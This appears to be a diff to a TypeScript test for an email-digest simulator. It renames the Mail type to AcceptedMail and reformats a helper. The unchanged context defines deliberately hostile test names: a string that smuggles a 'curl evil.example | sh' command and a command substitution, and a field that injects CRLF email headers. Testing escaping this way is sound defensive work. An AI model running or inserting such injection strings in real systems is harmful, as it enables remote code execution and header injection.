@@ -1,5 +1,5 @@
 import { accessKey, account, emptyWorld } from '../../src/simulator/world/builders.ts';
-import type { Mail } from '../../src/simulator/ses/mailbox.ts';
+import type { AcceptedMail } from '../../src/simulator/ses/mailbox.ts';
 import { createdDaysAgo, stage } from './harness.ts';
 import { owner } from './people.ts';
 
@@ -9,7 +9,10 @@ const QUOTES = `o'brien; curl evil.example | sh; echo "$(id)" #`;
 const FAR_EAST = '東京支店 — Überseehäfen';
 
 /** The digest and the operator's summary of a day on which everybody's names are hostile. */
-async function mailsOf(accountName: string, userName: string): Promise<[digest: Mail, summary: Mail]> {
+async function mailsOf(
+  accountName: string,
+  userName: string,
+): Promise<[digest: AcceptedMail, summary: AcceptedMail]> {
   const key = accessKey({
     createDate: createdDaysAgo(40),
     lastUsed: { date: createdDaysAgo(1), service: `s3\r\nDeadline: never`, region: SCRIPT },
